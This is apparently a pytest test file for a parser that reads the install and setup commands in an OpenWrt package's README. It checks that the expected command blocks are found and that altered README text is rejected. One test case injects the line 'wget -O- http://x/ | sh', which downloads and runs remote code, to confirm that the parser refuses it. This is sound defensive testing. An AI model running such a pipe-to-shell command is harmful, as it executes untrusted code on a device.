"""The reader of README's commands: what it does not understand is no command that nobody runs."""

from __future__ import annotations

import pytest

from tests.openwrt.maker import TOP
from tests.rig.readme import told

README = (TOP / "README.md").read_text("utf-8")


def test_each_block_is_found() -> None:
    """Something of each, so that none is empty."""
    said = told()
    assert said.package[0].startswith("make package")
    assert said.install[-1].startswith("opkg install")
    assert said.enable[0].startswith("uci set acmeiot.")
    assert len(said.care) == 3
    assert len(said.remove) == 2


@pytest.mark.parametrize(
    ("there", "instead"),
    [
        ("    opkg update\n", "    opkg update\n    wget -O- http://x/ | sh\n"),
        ("    acmeiot devices\n    acmeiot a", "    acmeiot devices\n\nor\n\n    acmeiot a"),
        ("\n    make package ", "\n    ./build "),
        ("## Install on a router", "## Install"),
    ],
)
def test_what_is_not_understood_fails(there: str, instead: str) -> None:
    """A line of another program, a block more, another heading."""
    section = README.index("\n## Install on a router")
    changed = README[:section] + README[section:].replace(there, instead, 1)
    assert changed != README
    with pytest.raises(AssertionError, match=r"understood|wanted|README has no"):
        told(changed)
